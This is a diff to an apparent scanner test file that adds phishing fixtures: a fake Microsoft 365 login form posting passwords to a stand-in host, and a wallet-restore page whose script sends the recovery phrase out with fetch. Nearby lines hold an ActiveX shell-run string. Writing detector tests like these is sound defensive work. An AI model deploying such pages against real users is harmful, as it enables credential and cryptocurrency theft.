@@ -121,7 +121,20 @@ const odc = (content: string): Uint8Array =>
   )
 
 const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
+const signIn = (title: string, server: string): Uint8Array =>
+  Buffer.from(
+    `<html><title>${title}</title><h1>${title}</h1><form action="https://${server}/a" method="post"><input type="email"><input type="password"></form></html>`,
+  )
 const ROWS: readonly Row[] = [
+  [
+    'sign-in page that poses as that of a company',
+    'Html.FalseLogin',
+    signIn('Microsoft 365', 'forms.example'),
+    Buffer.from(
+      '<html><h1>Restore your wallet</h1><textarea id="k" placeholder="Secret recovery phrase"></textarea><script>onclick=function(){fetch("https://forms.example/a",{method:"POST",body:document.getElementById("k").value})}</script></html>',
+    ),
+    signIn('Microsoft', 'login.live.com'),
+  ],
   [
     'shell for another computer, in Perl, Ruby and Lua',
     'Script.RemoteControl',
